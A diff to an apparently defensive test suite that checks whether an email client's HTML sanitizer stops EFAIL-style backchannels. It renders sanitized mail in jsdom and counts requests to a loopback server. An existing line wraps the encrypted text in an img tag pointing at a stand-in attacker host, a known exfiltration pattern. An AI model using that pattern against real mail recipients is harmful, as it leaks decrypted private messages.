@@ -131,3 +131,47 @@ describe.runIf(toolPath('gpg') !== undefined || process.env.CI === 'true')('DE: 
     assertAlone(await read(efailMail(`<img src="${attacker}/?`, text(inlineCipher), '">'), options()), secret, secret);
   });
 });
+
+describe('DE: the sanitized HTML, rendered with resource loading on, makes no request', () => {
+  // jsdom fetches style sheets, frames and scripts when resources are 'usable' (not images or CSS
+  // url(), which the static check above covers). The loopback server counts every request; the
+  // positive control shows the same harness sees the attacker's unsanitized HTML load.
+  async function render(htmlText: string, base: string): Promise<void> {
+    const { JSDOM } = await import('jsdom');
+    const dom = new JSDOM(`<!doctype html><html><head></head><body>${htmlText}</body></html>`, { url: `${base}/mail`, resources: 'usable', runScripts: 'dangerously' });
+    await new Promise<void>((resolve) => {
+      if (dom.window.document.readyState === 'complete') resolve();
+      else dom.window.addEventListener('load', () => resolve());
+    });
+    dom.window.close();
+  }
+
+  it('zero requests for every backchannel mail; the raw attacker HTML does load', async () => {
+    const { createServer } = await import('node:http');
+    const requests: string[] = [];
+    const server = createServer((request, response) => {
+      requests.push(request.url ?? '');
+      response.writeHead(200, { 'Content-Type': request.url?.includes('frame') ? 'text/html' : 'text/css' });
+      response.end('');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const address = server.address();
+    const base = `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
+    try {
+      for (const [, before, after] of backchannels) {
+        const secret = canary();
+        const armored = await encryptArmored(secret, { to: [bobPublic] });
+        const local = (html: string) => html.split(attacker).join(base);
+        const view = await read(efailMail(local(before), text(armored), local(after)), options());
+        const shown = [...view.parts, ...view.unprotectedParts].map((part) => (part.kind === 'html' ? part.content : '')).join('');
+        await render(shown, base);
+      }
+      expect(requests).toEqual([]);
+      // Positive control: the same harness sees loads of unsanitized HTML.
+      await render(`<link rel="stylesheet" href="${base}/control.css"><iframe src="${base}/frame"></iframe>`, base);
+      expect(requests.length).toBeGreaterThan(0);
+    } finally {
+      await new Promise<void>((resolve) => server.close(() => resolve()));
+    }
+  });
+});
